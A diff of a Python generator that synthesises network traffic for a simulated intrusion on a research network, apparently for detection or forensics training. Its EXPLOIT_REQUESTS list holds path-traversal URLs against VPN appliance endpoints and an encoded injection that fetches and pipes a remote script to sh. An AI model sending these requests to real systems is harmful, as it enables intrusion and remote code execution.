@@ -28,22 +28,37 @@ from netpkt import Net, TcpConn  # noqa: E402
 GENERATOR_VERSION = 1
 DEFAULT_START = "2024-03-04T08:00:00Z"
 
-# Background volume and attack size per --size. duration in seconds; *_hosts are workstation
-# counts; *_rate are sessions per host per hour; files is the number collected in stage (d).
-SIZES = {
-    "tiny": dict(file_median=350, list_dirs=1, smb_files=(1, 4), ssh_keys=(3, 10), max_requests=2, vpn_burst_gap=180, smb_workers=(1, 1), duration=1200, research_hosts=3, business_hosts=4, vpn_users=1, launch_hosts=2, web_rate=1.0,
-                 smb_rate=0.4, ssh_sessions=1, files=36, file_size=(100, 600), scan_hosts=10, tunnel_queries=24,
-                 exfil_bytes=30_000, response_cap=5_000, ping_interval=900, ntp_interval=1024, beacon_task_bytes=600),
-    "small": dict(file_median=4000, list_dirs=4, smb_files=(2, 12), ssh_keys=(5, 40), max_requests=6, smb_workers=(3, 1), vpn_burst_gap=30, duration=2700, research_hosts=12, business_hosts=15, vpn_users=4, launch_hosts=4, web_rate=3.0,
-                  smb_rate=0.6, ssh_sessions=4, files=500, file_size=(400, 32768), scan_hosts=60, tunnel_queries=300,
-                  exfil_bytes=4_000_000, response_cap=40_000, ping_interval=300, ntp_interval=1024, beacon_task_bytes=4000),
-    "medium": dict(file_median=6000, list_dirs=4, smb_files=(2, 12), ssh_keys=(5, 40), max_requests=6, smb_workers=(3, 1), vpn_burst_gap=25, duration=5400, research_hosts=30, business_hosts=40, vpn_users=10, launch_hosts=8, web_rate=10.0,
-                   smb_rate=1.0, ssh_sessions=10, files=3000, file_size=(400, 131072), scan_hosts=150, tunnel_queries=1000,
-                   exfil_bytes=25_000_000, response_cap=200_000, ping_interval=300, ntp_interval=1024, beacon_task_bytes=8000),
-    "large": dict(file_median=6000, list_dirs=4, smb_files=(2, 12), ssh_keys=(5, 40), max_requests=6, smb_workers=(3, 1), vpn_burst_gap=25, duration=10800, research_hosts=60, business_hosts=80, vpn_users=20, launch_hosts=12, web_rate=10.0,
-                  smb_rate=1.0, ssh_sessions=20, files=10000, file_size=(400, 131072), scan_hosts=250, tunnel_queries=3000,
-                  exfil_bytes=60_000_000, response_cap=250_000, ping_interval=300, ntp_interval=1024, beacon_task_bytes=8000),
+SIZE_NAMES = ("tiny", "small", "medium", "large")
+# Settings per --size, one column per size in SIZE_NAMES order.
+SIZE_TABLE = {
+    "duration": (1200, 2700, 5400, 10800),  # capture length, seconds of data time
+    # Background. Host counts are multiplied by --scale; rates are sessions per host per hour.
+    "research_hosts": (3, 12, 30, 60),
+    "business_hosts": (4, 15, 40, 80),
+    "vpn_users": (1, 4, 10, 20),
+    "launch_hosts": (2, 4, 8, 12),
+    "web_rate": (1.0, 3.0, 10.0, 10.0),
+    "max_requests": (2, 6, 6, 6),  # HTTPS requests per connection
+    "response_cap": (5_000, 40_000, 200_000, 250_000),  # largest response body, bytes
+    "smb_rate": (0.4, 0.6, 1.0, 1.0),
+    "smb_files": ((1, 4), (2, 12), (2, 12), (2, 12)),  # files a user reads per session
+    "ssh_sessions": (1, 4, 10, 20),  # per admin host
+    "ssh_keys": ((3, 10), (5, 40), (5, 40), (5, 40)),  # keystroke exchanges per session
+    "vpn_burst_gap": (180, 30, 25, 25),  # mean seconds between VPN tunnel bursts
+    "ping_interval": (900, 300, 300, 300),
+    "ntp_interval": (1024, 1024, 1024, 1024),
+    # Attack.
+    "scan_hosts": (10, 60, 150, 250),  # stage (c) targets, 5 ports each
+    "files": (36, 500, 3000, 10000),  # stage (d) files collected (--files overrides)
+    "file_size": ((100, 600), (400, 32768), (400, 131072), (400, 131072)),  # min, max bytes
+    "file_median": (350, 4000, 6000, 6000),
+    "smb_workers": ((1, 1), (3, 1), (3, 1), (3, 1)),  # parallel sessions on fs1, rnd-fs2
+    "list_dirs": (1, 4, 4, 4),  # QUERY_DIRECTORY listings per session
+    "exfil_bytes": (30_000, 4_000_000, 25_000_000, 60_000_000),  # stage (e) upload
+    "beacon_task_bytes": (600, 4000, 8000, 8000),  # stage (f) occasional larger response
+    "tunnel_queries": (24, 300, 1000, 3000),  # stage (g)
 }
+SIZES = {name: {k: v[i] for k, v in SIZE_TABLE.items()} for i, name in enumerate(SIZE_NAMES)}
 
 # Network layout. The VPN appliance has a public address in the DMZ and an inside address.
 ZONES = {
@@ -75,7 +90,13 @@ POLICY = {
 VPN_PUBLIC = "198.51.100.10"
 VPN_INSIDE = "10.0.0.10"
 DC = "10.30.0.10"
-RESOLVER = {"research": "10.20.0.2", "business": "10.30.0.2", "vpn_pool": "10.30.0.2", "launch_ops": "10.40.0.2", "dmz": "198.18.0.53"}
+RESOLVER = {
+    "research": "10.20.0.2",
+    "business": "10.30.0.2",
+    "vpn_pool": "10.30.0.2",
+    "launch_ops": "10.40.0.2",
+    "dmz": "198.18.0.53",
+}
 UPSTREAM_DNS = "198.18.0.53"
 NTP_INTERNAL = "10.30.0.3"
 NTP_LAUNCH = "10.40.0.2"
@@ -108,28 +129,88 @@ LAUNCH_TARGET = "10.40.1.20"
 
 # Benign internet services: name -> (kind, ports). Addresses are assigned from 198.18.0.0/15.
 SITES = [
-    ("www.contoso.example", "tls"), ("login.contoso.example", "tls"), ("cdn.contoso.example", "tls"),
-    ("outlook.fabrikam.example", "tls"), ("teams.fabrikam.example", "tls"), ("news.northwind.example", "tls"),
-    ("docs.tailspin.example", "tls"), ("api.tailspin.example", "tls"), ("pkg.pkgmirror.example", "tls"),
-    ("git.codehost.example", "tls"), ("weather.adatum.example", "tls"), ("maps.adatum.example", "tls"),
-    ("update.osvendor.example", "http"), ("ocsp.trustca.example", "http"), ("www.woodgrove.example", "http"),
-    ("static.litware.example", "tls"), ("telemetry.osvendor.example", "tls"), ("mail.fourthcoffee.example", "tls"),
+    ("www.contoso.example", "tls"),
+    ("login.contoso.example", "tls"),
+    ("cdn.contoso.example", "tls"),
+    ("outlook.fabrikam.example", "tls"),
+    ("teams.fabrikam.example", "tls"),
+    ("news.northwind.example", "tls"),
+    ("docs.tailspin.example", "tls"),
+    ("api.tailspin.example", "tls"),
+    ("pkg.pkgmirror.example", "tls"),
+    ("git.codehost.example", "tls"),
+    ("weather.adatum.example", "tls"),
+    ("maps.adatum.example", "tls"),
+    ("update.osvendor.example", "http"),
+    ("ocsp.trustca.example", "http"),
+    ("www.woodgrove.example", "http"),
+    ("static.litware.example", "tls"),
+    ("telemetry.osvendor.example", "tls"),
+    ("mail.fourthcoffee.example", "tls"),
 ]
-CNAMES = {"cdn.contoso.example": "contoso.edge-cache.example", "static.litware.example": "litware.edge-cache.example"}
+CNAMES = {
+    "cdn.contoso.example": "contoso.edge-cache.example",
+    "static.litware.example": "litware.edge-cache.example",
+}
 
-FIRST_NAMES = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy", "mallory", "nina",
-               "oscar", "peggy", "quinn", "rupert", "sybil", "trent", "ursula", "victor", "walter", "xena", "yara", "zoe"]
+FIRST_NAMES = [
+    "alice",
+    "bob",
+    "carol",
+    "dave",
+    "erin",
+    "frank",
+    "grace",
+    "heidi",
+    "ivan",
+    "judy",
+    "mallory",
+    "nina",
+    "oscar",
+    "peggy",
+    "quinn",
+    "rupert",
+    "sybil",
+    "trent",
+    "ursula",
+    "victor",
+    "walter",
+    "xena",
+    "yara",
+    "zoe",
+]
 
 EXPLOIT_REQUESTS = [
-    ("GET", "/remote/login?lang=en", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0"),
-    ("GET", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", "python-requests/2.31.0"),
+    (
+        "GET",
+        "/remote/login?lang=en",
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0",
+    ),
+    (
+        "GET",
+        "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
+        "python-requests/2.31.0",
+    ),
     ("GET", "/api/v1/totp/user-backup-code/../../system/system-information", "python-requests/2.31.0"),
-    ("GET", "/api/v1/totp/user-backup-code/../../license/keys-status/%3bcurl%20-s%20http%3a%2f%2f192.0.2.77%2fbins%2fupdate.sh%7csh%3b",
-     "python-requests/2.31.0"),
+    (
+        "GET",
+        "/api/v1/totp/user-backup-code/../../license/keys-status/%3bcurl%20-s%20http%3a%2f%2f192.0.2.77%2fbins%2fupdate.sh%7csh%3b",
+        "python-requests/2.31.0",
+    ),
 ]
 
-PROJECTS = ["LV7-Guidance", "Propulsion-Test", "Telemetry", "Avionics-HIL", "Structures", "Thermal", "GNC-Sim",
-            "Payload-Integration", "Ground-Support", "Flight-Software"]
+PROJECTS = [
+    "LV7-Guidance",
+    "Propulsion-Test",
+    "Telemetry",
+    "Avionics-HIL",
+    "Structures",
+    "Thermal",
+    "GNC-Sim",
+    "Payload-Integration",
+    "Ground-Support",
+    "Flight-Software",
+]
 SUBDIRS = ["design", "reviews", "test-data", "reports", "cad", "specs", "minutes", "analysis"]
 EXTS = [".pdf", ".docx", ".xlsx", ".step", ".csv", ".pptx", ".m", ".txt", ".zip", ".dat"]
 
@@ -182,8 +263,19 @@ class Scenario:
         h = self.net.host
         for ip in (FS1[0], FS_RND2[0], FS_BUSINESS[0], DC, INTRANET):
             h(ip, os="windows")
-        for ip in (RESOLVER["research"], RESOLVER["business"], RESOLVER["launch_ops"], NTP_INTERNAL, MONITOR, GITLAB,
-                   RESEARCH_ADMIN, LAUNCH_ADMIN, VPN_INSIDE, UPSTREAM_DNS, NTP_PUBLIC):
+        for ip in (
+            RESOLVER["research"],
+            RESOLVER["business"],
+            RESOLVER["launch_ops"],
+            NTP_INTERNAL,
+            MONITOR,
+            GITLAB,
+            RESEARCH_ADMIN,
+            LAUNCH_ADMIN,
+            VPN_INSIDE,
+            UPSTREAM_DNS,
+            NTP_PUBLIC,
+        ):
             h(ip, os="linux")
         h(VPN_PUBLIC, os="linux")
 
@@ -195,7 +287,15 @@ class Scenario:
                     out.append(ip)
             return out
 
-        avoid = {STAGING_HOST, TUNNEL_HOST, VIOLATOR, LAUNCH_TARGET, VPN_ATTACKER_ADDR, RESEARCH_ADMIN, LAUNCH_ADMIN}
+        avoid = {
+            STAGING_HOST,
+            TUNNEL_HOST,
+            VIOLATOR,
+            LAUNCH_TARGET,
+            VPN_ATTACKER_ADDR,
+            RESEARCH_ADMIN,
+            LAUNCH_ADMIN,
+        }
         n_r = max(2, round(cfg["research_hosts"] * self.scale))
         n_b = max(2, round(cfg["business_hosts"] * self.scale))
         self.research_ws = pick("10.20", 2, 9, n_r, avoid)
@@ -212,7 +312,9 @@ class Scenario:
         h(TUNNEL_HOST, os="windows")
         h(VIOLATOR, os="windows")
         h(VPN_ATTACKER_ADDR, os="windows", mss=1350)
-        self.vpn_user_public = {ip: "198.19.%d.%d" % (rng.randint(1, 254), rng.randint(1, 254)) for ip in self.vpn_users}
+        self.vpn_user_public = {
+            ip: "198.19.%d.%d" % (rng.randint(1, 254), rng.randint(1, 254)) for ip in self.vpn_users
+        }
         self.users = {}
         names = list(FIRST_NAMES)
         rng.shuffle(names)
@@ -231,9 +333,13 @@ class Scenario:
         self.dns_db[C2_SNI] = [("A", C2_IP)]
         self.dns_db[EXFIL_SNI] = [("A", EXFIL_IP)]
         internal = {
-            "fs1.research.corp.example": FS1[0], "rnd-fs2.research.corp.example": FS_RND2[0],
-            "bfs1.corp.example": FS_BUSINESS[0], "intranet.corp.example": INTRANET, "dc1.corp.example": DC,
-            "gitlab.research.corp.example": GITLAB, "ntp.corp.example": NTP_INTERNAL,
+            "fs1.research.corp.example": FS1[0],
+            "rnd-fs2.research.corp.example": FS_RND2[0],
+            "bfs1.corp.example": FS_BUSINESS[0],
+            "intranet.corp.example": INTRANET,
+            "dc1.corp.example": DC,
+            "gitlab.research.corp.example": GITLAB,
+            "ntp.corp.example": NTP_INTERNAL,
         }
         for name, ip in internal.items():
             self.dns_db[name] = [("A", ip)]
@@ -281,7 +387,6 @@ class Scenario:
         if recs is None or qtype != "A":
             return None
         out = []
-        owner = name
         for rtype, val in recs:
             out.append((rtype, 300 if rtype == "A" else 3600, val))
         return out
@@ -312,7 +417,14 @@ class Scenario:
                 usport = self.rng.randint(1024, 65535)
                 net.udp(t1 + 40, res, usport, up, 53, P.dns_query(uq, name, qtype))
                 t1 += 40 + self.rtt(resolver_ip, UPSTREAM_DNS)
-                net.udp(t1, up, 53, res, usport, P.dns_response(uq, name, qtype, recs or [], rcode=0 if recs else 3))
+                net.udp(
+                    t1,
+                    up,
+                    53,
+                    res,
+                    usport,
+                    P.dns_response(uq, name, qtype, recs or [], rcode=0 if recs else 3),
+                )
                 self.resolver_cache[rkey] = t1 + 300 * S
             t1 += 30
         else:
@@ -322,8 +434,20 @@ class Scenario:
         return addr, t1 + self.distance(client_ip) + self.distance(resolver_ip)
 
     # ------------------------------------------------------------------ sessions
-    def tls_session(self, t, cli, srv, sni, requests, profile="browser", tls13=True, cert=None, port=443,
-                    close_by_client=True, idle=None):
+    def tls_session(
+        self,
+        t,
+        cli,
+        srv,
+        sni,
+        requests,
+        profile="browser",
+        tls13=True,
+        cert=None,
+        port=443,
+        close_by_client=True,
+        idle=None,
+    ):
         """Full TLS connection: handshake, `requests` list of (client bytes, server bytes)
         application exchanges, then FIN teardown. Returns the connection."""
         rng = self.rng
@@ -333,11 +457,15 @@ class Scenario:
             c.exchange(hello, P.tls13_server_flight(rng, hs), server_think=rng.randint(200, 2000))
             c.send(True, P.tls13_client_finish(rng), think=200, ack_last=False)
         else:
-            c.exchange(hello, P.tls12_server_flight(rng, cert or BENIGN_CERT), server_think=rng.randint(200, 2000))
+            c.exchange(
+                hello, P.tls12_server_flight(rng, cert or BENIGN_CERT), server_think=rng.randint(200, 2000)
+            )
             c.send(True, P.tls12_client_finish(rng), think=300, ack_last=False)
             c.send(False, P.tls12_server_finish(rng), think=rng.randint(200, 900))
         for i, (up, down) in enumerate(requests):
-            c.send(True, P.tls_app_data(rng, up), think=rng.randint(1_000, 300_000) if i else 500, ack_last=False)
+            c.send(
+                True, P.tls_app_data(rng, up), think=rng.randint(1_000, 300_000) if i else 500, ack_last=False
+            )
             c.send(False, P.tls_app_data(rng, down), think=rng.randint(2_000, 60_000))
         think = idle if idle is not None else rng.randint(50_000, 15 * S)
         if idle is None and rng.random() < 0.08:
@@ -354,26 +482,69 @@ class Scenario:
         if kind == "http":
             c = self.tcp(t, ip, addr, 80).handshake()
             for _ in range(rng.randint(1, 3)):
-                path = rng.choice(["/", "/index.html", "/news/latest", "/static/app.js", "/updates/manifest.xml", "/favicon.ico"])
-                req = P.http_request("GET", path, name, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
-                                     extra=["Accept-Encoding: gzip, deflate", "Connection: keep-alive"])
+                path = rng.choice(
+                    [
+                        "/",
+                        "/index.html",
+                        "/news/latest",
+                        "/static/app.js",
+                        "/updates/manifest.xml",
+                        "/favicon.ico",
+                    ]
+                )
+                req = P.http_request(
+                    "GET",
+                    path,
+                    name,
+                    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
+                    extra=["Accept-Encoding: gzip, deflate", "Connection: keep-alive"],
+                )
                 textual = not path.endswith(".xml") or rng.random() < 0.5
                 n = self.lognormal_size(3000, cap)
                 if textual:
                     body = self.text_body(n)
                     resp = P.http_response(200, "OK", body, c.t, gzip_body=rng.random() < 0.6)
                 else:
-                    resp = P.http_response(200, "OK", rng.randbytes(n), c.t, content_type="application/octet-stream")
-                c.exchange(req, resp, server_think=rng.randint(500, 40_000), client_think=rng.randint(1_000, 2 * S))
+                    resp = P.http_response(
+                        200, "OK", rng.randbytes(n), c.t, content_type="application/octet-stream"
+                    )
+                c.exchange(
+                    req, resp, server_think=rng.randint(500, 40_000), client_think=rng.randint(1_000, 2 * S)
+                )
             c.close(from_client=rng.random() < 0.5, think=rng.randint(100_000, 5 * S))
         else:
-            reqs = [(self.lognormal_size(600, 4000, 200), self.lognormal_size(6000, cap)) for _ in range(rng.randint(1, self.cfg["max_requests"]))]
+            reqs = [
+                (self.lognormal_size(600, 4000, 200), self.lognormal_size(6000, cap))
+                for _ in range(rng.randint(1, self.cfg["max_requests"]))
+            ]
             tls13 = rng.random() < 0.75
-            self.tls_session(t, ip, addr, name, reqs, profile="browser" if rng.random() < 0.85 else "curl", tls13=tls13)
+            self.tls_session(
+                t, ip, addr, name, reqs, profile="browser" if rng.random() < 0.85 else "curl", tls13=tls13
+            )
 
     def text_body(self, n):
-        words = ["launch", "schedule", "report", "meeting", "update", "the", "and", "of", "project", "status", "budget",
-                 "review", "customer", "weather", "news", "sports", "market", "travel", "team", "document"]
+        words = [
+            "launch",
+            "schedule",
+            "report",
+            "meeting",
+            "update",
+            "the",
+            "and",
+            "of",
+            "project",
+            "status",
+            "budget",
+            "review",
+            "customer",
+            "weather",
+            "news",
+            "sports",
+            "market",
+            "travel",
+            "team",
+            "document",
+        ]
         rng = self.rng
         out = []
         size = 0
@@ -383,8 +554,19 @@ class Scenario:
             size += len(w) + 1
         return ("<html><body><p>" + " ".join(out) + "</p></body></html>").encode()
 
-    def smb_session(self, t, client_ip, server, user, domain, files, workers_delay=(20_000, 200_000), dirs=None,
-                    workstation=None, max_read=65536):
+    def smb_session(
+        self,
+        t,
+        client_ip,
+        server,
+        user,
+        domain,
+        files,
+        workers_delay=(20_000, 200_000),
+        dirs=None,
+        workstation=None,
+        max_read=65536,
+    ):
         """One SMB2 session: NEGOTIATE, SESSION_SETUP (NTLMSSP in SPNEGO), TREE_CONNECT, optional
         directory listings, then CREATE/READ/CLOSE of each (path, size), TREE_DISCONNECT, LOGOFF."""
         rng = self.rng
@@ -397,28 +579,69 @@ class Scenario:
         def req(cmd, body, resp_body, status=0, charge=1, think=None):
             nonlocal mid
             rq = P.netbios(P.smb2_header(cmd, mid, sess, tree, credits=32, charge=charge) + body)
-            rs = P.netbios(P.smb2_header(cmd, mid, sess if cmd != P.SMB2_NEGOTIATE else 0, tree, status=status, response=True, credits=32, charge=charge) + resp_body)
+            rs = P.netbios(
+                P.smb2_header(
+                    cmd,
+                    mid,
+                    sess if cmd != P.SMB2_NEGOTIATE else 0,
+                    tree,
+                    status=status,
+                    response=True,
+                    credits=32,
+                    charge=charge,
+                )
+                + resp_body
+            )
             # The next request follows at once, so it carries the ACK of this response.
             c.send(True, rq, think=think if think is not None else rng.randint(50, 400), ack_last=False)
             c.send(False, rs, think=rng.randint(80, 900), ack_last=(think or 0) > 40_000)
             mid += charge
 
-        req(P.SMB2_NEGOTIATE, P.smb2_negotiate_req(rng, c.t), P.smb2_negotiate_resp(rng.randbytes(16), c.t, self.start - 40 * 86400 * S))
+        req(
+            P.SMB2_NEGOTIATE,
+            P.smb2_negotiate_req(rng, c.t),
+            P.smb2_negotiate_resp(rng.randbytes(16), c.t, self.start - 40 * 86400 * S),
+        )
         tok1 = P.spnego_init(P.ntlm_negotiate())
-        chal, info = P.ntlm_challenge(rng, c.t, srv_domain, srv_name.upper(), srv_domain.lower() + ".corp.example")
+        chal, info = P.ntlm_challenge(
+            rng, c.t, srv_domain, srv_name.upper(), srv_domain.lower() + ".corp.example"
+        )
         sess = rng.getrandbits(64) & 0x0000FFFFFFFFFFFF | 0x0000040000000001
         mid_before = mid
-        rq = P.netbios(P.smb2_header(P.SMB2_SESSION_SETUP, mid, 0, 0, credits=32) + P.smb2_session_setup_req(tok1))
-        rs = P.netbios(P.smb2_header(P.SMB2_SESSION_SETUP, mid, sess, 0, status=P.STATUS_MORE_PROCESSING_REQUIRED, response=True, credits=32)
-                       + P.smb2_session_setup_resp(P.spnego_resp(1, P.OID_NTLMSSP, chal)))
+        rq = P.netbios(
+            P.smb2_header(P.SMB2_SESSION_SETUP, mid, 0, 0, credits=32) + P.smb2_session_setup_req(tok1)
+        )
+        rs = P.netbios(
+            P.smb2_header(
+                P.SMB2_SESSION_SETUP,
+                mid,
+                sess,
+                0,
+                status=P.STATUS_MORE_PROCESSING_REQUIRED,
+                response=True,
+                credits=32,
+            )
+            + P.smb2_session_setup_resp(P.spnego_resp(1, P.OID_NTLMSSP, chal))
+        )
         c.exchange(rq, rs, server_think=rng.randint(200, 1500), client_think=rng.randint(100, 500))
         mid = mid_before + 1
-        auth = P.ntlm_authenticate(rng, c.t, domain, user, workstation or ("WS-" + client_ip.replace(".", "-")), info)
-        req(P.SMB2_SESSION_SETUP, P.smb2_session_setup_req(P.spnego_resp(token=auth)), P.smb2_session_setup_resp(P.spnego_resp(0)))
+        auth = P.ntlm_authenticate(
+            rng, c.t, domain, user, workstation or ("WS-" + client_ip.replace(".", "-")), info
+        )
+        req(
+            P.SMB2_SESSION_SETUP,
+            P.smb2_session_setup_req(P.spnego_resp(token=auth)),
+            P.smb2_session_setup_resp(P.spnego_resp(0)),
+        )
         tree = rng.randint(1, 15)
         tree_path = "\\\\%s\\%s" % (srv_name, share)
-        req_tree = P.netbios(P.smb2_header(P.SMB2_TREE_CONNECT, mid, sess, 0, credits=32) + P.smb2_tree_connect_req(tree_path))
-        rs_tree = P.netbios(P.smb2_header(P.SMB2_TREE_CONNECT, mid, sess, tree, response=True, credits=32) + P.smb2_tree_connect_resp())
+        req_tree = P.netbios(
+            P.smb2_header(P.SMB2_TREE_CONNECT, mid, sess, 0, credits=32) + P.smb2_tree_connect_req(tree_path)
+        )
+        rs_tree = P.netbios(
+            P.smb2_header(P.SMB2_TREE_CONNECT, mid, sess, tree, response=True, credits=32)
+            + P.smb2_tree_connect_resp()
+        )
         c.exchange(req_tree, rs_tree, server_think=rng.randint(200, 900), client_think=rng.randint(100, 500))
         mid += 1
         next_fid = rng.getrandbits(32)
@@ -428,23 +651,45 @@ class Scenario:
             next_fid += rng.randint(1, 9)
             return struct.pack("<QQ", next_fid, rng.getrandbits(64))
 
-        for d, entries in (dirs or []):
+        for d, entries in dirs or []:
             fid = file_id()
-            req(P.SMB2_CREATE, P.smb2_create_req(d, directory=True), P.smb2_create_resp(fid, c.t, 0, directory=True),
-                think=rng.randint(*workers_delay))
-            req(P.SMB2_QUERY_DIRECTORY, P.smb2_query_directory_req(fid), P.smb2_query_directory_resp(entries, c.t))
-            req(P.SMB2_QUERY_DIRECTORY, P.smb2_query_directory_req(fid), struct.pack("<HHI", 9, 0, 0) + b"\x00",
-                status=P.STATUS_NO_MORE_FILES)
+            req(
+                P.SMB2_CREATE,
+                P.smb2_create_req(d, directory=True),
+                P.smb2_create_resp(fid, c.t, 0, directory=True),
+                think=rng.randint(*workers_delay),
+            )
+            req(
+                P.SMB2_QUERY_DIRECTORY,
+                P.smb2_query_directory_req(fid),
+                P.smb2_query_directory_resp(entries, c.t),
+            )
+            req(
+                P.SMB2_QUERY_DIRECTORY,
+                P.smb2_query_directory_req(fid),
+                struct.pack("<HHI", 9, 0, 0) + b"\x00",
+                status=P.STATUS_NO_MORE_FILES,
+            )
             req(P.SMB2_CLOSE, P.smb2_close_req(fid), P.smb2_close_resp())
         bytes_read = 0
         for path, size in files:
             fid = file_id()
-            req(P.SMB2_CREATE, P.smb2_create_req(path), P.smb2_create_resp(fid, c.t, size), think=rng.randint(*workers_delay))
+            req(
+                P.SMB2_CREATE,
+                P.smb2_create_req(path),
+                P.smb2_create_resp(fid, c.t, size),
+                think=rng.randint(*workers_delay),
+            )
             off = 0
             while off < size:
                 n = min(max_read, size - off)
                 charge = (n + 65535) // 65536
-                req(P.SMB2_READ, P.smb2_read_req(fid, n, off), P.smb2_read_resp(rng.randbytes(n)), charge=charge)
+                req(
+                    P.SMB2_READ,
+                    P.smb2_read_req(fid, n, off),
+                    P.smb2_read_resp(rng.randbytes(n)),
+                    charge=charge,
+                )
                 off += n
             bytes_read += size
             req(P.SMB2_CLOSE, P.smb2_close_req(fid), P.smb2_close_resp())
@@ -465,17 +710,25 @@ class Scenario:
             if server is FS1:
                 path = "%s\\%s\\%s" % (rng.choice(PROJECTS), rng.choice(SUBDIRS), self.file_name())
             else:
-                path = "%s\\%s" % (rng.choice(["Finance", "HR", "Sales", "Templates", "Contracts"]), self.file_name())
+                path = "%s\\%s" % (
+                    rng.choice(["Finance", "HR", "Sales", "Templates", "Contracts"]),
+                    self.file_name(),
+                )
             cap = min(self.cfg["response_cap"], 65536)
             files.append((path, self.lognormal_size(min(6000, cap // 3), cap, 200)))
-        name = ("fs1.research.corp.example" if server is FS1 else "bfs1.corp.example")
+        name = "fs1.research.corp.example" if server is FS1 else "bfs1.corp.example"
         _, t = self.lookup(t, ip, name)
         self.smb_session(t, ip, server, self.users[ip], domain, files, workers_delay=(300_000, 20 * S))
 
     def file_name(self):
         rng = self.rng
         stem = "".join(rng.choice(string.ascii_lowercase) for _ in range(rng.randint(4, 9)))
-        return "%s_%s_v%d%s" % (stem, rng.choice(["final", "draft", "rev", "2023", "2024", "notes"]), rng.randint(1, 12), rng.choice(EXTS))
+        return "%s_%s_v%d%s" % (
+            stem,
+            rng.choice(["final", "draft", "rev", "2023", "2024", "notes"]),
+            rng.randint(1, 12),
+            rng.choice(EXTS),
+        )
 
     def ssh_session(self, t, cli, srv):
         rng = self.rng
@@ -488,10 +741,19 @@ class Scenario:
         c.send(False, P.ssh_ecdh_reply(rng), think=2_000, ack_last=False)
         c.send(True, P.ssh_newkeys(rng), think=300, ack_last=False)
         # Authentication and an interactive shell: encrypted keystrokes and command output.
-        c.exchange(rng.randbytes(rng.choice([44, 52, 68])), rng.randbytes(rng.choice([44, 52])), client_think=500)
-        c.exchange(rng.randbytes(rng.randint(300, 700)), rng.randbytes(rng.randint(500, 900)), client_think=1_000)
+        c.exchange(
+            rng.randbytes(rng.choice([44, 52, 68])), rng.randbytes(rng.choice([44, 52])), client_think=500
+        )
+        c.exchange(
+            rng.randbytes(rng.randint(300, 700)), rng.randbytes(rng.randint(500, 900)), client_think=1_000
+        )
         for _ in range(rng.randint(*self.cfg["ssh_keys"])):
-            c.exchange(rng.randbytes(36), rng.randbytes(36), server_think=100, client_think=rng.randint(80_000, 3 * S))
+            c.exchange(
+                rng.randbytes(36),
+                rng.randbytes(36),
+                server_think=100,
+                client_think=rng.randint(80_000, 3 * S),
+            )
             if rng.random() < 0.15:
                 c.send(False, rng.randbytes(rng.randint(100, 3000)), think=rng.randint(1_000, 50_000))
         c.close(from_client=True, think=rng.randint(1 * S, 10 * S))
@@ -506,15 +768,28 @@ class Scenario:
         c.send(True, P.tls12_client_finish(rng), think=400, ack_last=False)
         c.send(False, P.tls12_server_finish(rng), think=600)
         c.send(True, P.tls_app_data(rng, 420), think=300, ack_last=False)  # credentials
-        self.tls_session(c.t + 2_000, VPN_INSIDE, DC, None, [(380, 260), (120, 90)], profile="appliance", tls13=False, port=636,
-                         idle=rng.randint(100_000, 400_000))
+        self.tls_session(
+            c.t + 2_000,
+            VPN_INSIDE,
+            DC,
+            None,
+            [(380, 260), (120, 90)],
+            profile="appliance",
+            tls13=False,
+            port=636,
+            idle=rng.randint(100_000, 400_000),
+        )
         c.send(False, P.tls_app_data(rng, 900), think=rng.randint(20_000, 60_000))
         while c.t < end_t:
             gap = int(rng.expovariate(1 / self.cfg["vpn_burst_gap"]) * S) + 200_000
             if c.t + gap >= end_t:
                 break
             c.send(True, P.tls_app_data(rng, rng.randint(80, 1400)), think=gap, ack_last=False)
-            c.send(False, P.tls_app_data(rng, self.lognormal_size(1200, self.cfg["response_cap"])), think=rng.randint(20_000, 120_000))
+            c.send(
+                False,
+                P.tls_app_data(rng, self.lognormal_size(1200, self.cfg["response_cap"])),
+                think=rng.randint(20_000, 120_000),
+            )
         c.close(from_client=True, think=100_000)
 
     # ------------------------------------------------------------------ background
@@ -538,16 +813,32 @@ class Scenario:
                 if self.zone_of(ip) == "vpn_pool":
                     if rng.random() < 0.5:
                         _, t = self.lookup(t, ip, "intranet.corp.example")
-                        self.tls_session(t, ip, INTRANET, "intranet.corp.example",
-                                         [(self.lognormal_size(500, 2000), self.lognormal_size(5000, cfg["response_cap"]))],
-                                         tls13=False)
+                        self.tls_session(
+                            t,
+                            ip,
+                            INTRANET,
+                            "intranet.corp.example",
+                            [
+                                (
+                                    self.lognormal_size(500, 2000),
+                                    self.lognormal_size(5000, cfg["response_cap"]),
+                                )
+                            ],
+                            tls13=False,
+                        )
                     continue
                 self.web_session(t, ip)
             for t in self.poisson_times(cfg["smb_rate"]):
                 if self.zone_of(ip) == "vpn_pool":
-                    self.smb_session(t, ip, FS_BUSINESS, self.users[ip], "CORP",
-                                     [("Sales\\%s" % self.file_name(), self.lognormal_size(4000, 30_000))],
-                                     workers_delay=(500_000, 5 * S))
+                    self.smb_session(
+                        t,
+                        ip,
+                        FS_BUSINESS,
+                        self.users[ip],
+                        "CORP",
+                        [("Sales\\%s" % self.file_name(), self.lognormal_size(4000, 30_000))],
+                        workers_delay=(500_000, 5 * S),
+                    )
                 else:
                     self.benign_smb(t, ip)
             if self.net.host(ip).os == "windows" and self.zone_of(ip) != "vpn_pool":
@@ -557,12 +848,20 @@ class Scenario:
         for ip in self.business_ws:
             for t in self.poisson_times(cfg["web_rate"] / 3):
                 _, t = self.lookup(t, ip, "intranet.corp.example")
-                self.tls_session(t, ip, INTRANET, "intranet.corp.example",
-                                 [(self.lognormal_size(500, 2000), self.lognormal_size(5000, cfg["response_cap"]))], tls13=False)
+                self.tls_session(
+                    t,
+                    ip,
+                    INTRANET,
+                    "intranet.corp.example",
+                    [(self.lognormal_size(500, 2000), self.lognormal_size(5000, cfg["response_cap"]))],
+                    tls13=False,
+                )
         # Benign remote-access users: tunnel from the internet, inside address in the pool.
